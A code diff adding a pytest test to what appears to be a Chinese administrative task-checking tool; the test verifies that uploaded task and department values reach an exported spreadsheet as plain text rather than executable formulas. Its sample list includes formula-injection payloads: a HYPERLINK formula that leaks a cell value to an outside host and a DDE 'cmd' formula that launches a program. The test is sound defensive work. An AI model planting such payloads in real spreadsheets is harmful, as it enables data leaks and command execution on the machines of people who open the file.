@@ -197,3 +197,18 @@ def test_unknown_region_is_refused(tools_kb):
 
     with pytest.raises(KBError, match="unknown region"):
         check_tasks(tools_kb, ["调解民间纠纷"], region="不存在的地方", searcher=open_searcher(tools_kb, use_model=False))
+
+
+def test_report_xlsx_writes_formula_like_tasks_as_text(tools_kb):
+    """Task and department cells come from uploads: a cell such as =HYPERLINK(...) or =cmd|... must reach
+    the spreadsheet as text, never as a formula it would run on opening."""
+    from openpyxl import load_workbook
+
+    hostile = ['=HYPERLINK("http://x/?"&B3,"点击")', "=cmd|' /C calc'!A0", "=1+1", "+SUM(A1)", "@A1"]
+    tasks = [{"task": t, "department": "=1+2"} for t in hostile]
+    result = check_tasks(tools_kb, tasks, searcher=open_searcher(tools_kb, use_model=False))
+    ws = load_workbook(io.BytesIO(report_xlsx(result)))["任务依据"]
+    cells = [(ws.cell(row=r, column=2), ws.cell(row=r, column=3)) for r in range(2, 2 + len(hostile))]
+    assert [task.value for task, _ in cells] == hostile
+    assert all(task.data_type == "s" and dept.data_type == "s" and dept.value == "=1+2" for task, dept in cells)
+    assert isinstance(ws.cell(row=2, column=1).value, int)   # numbers stay numbers
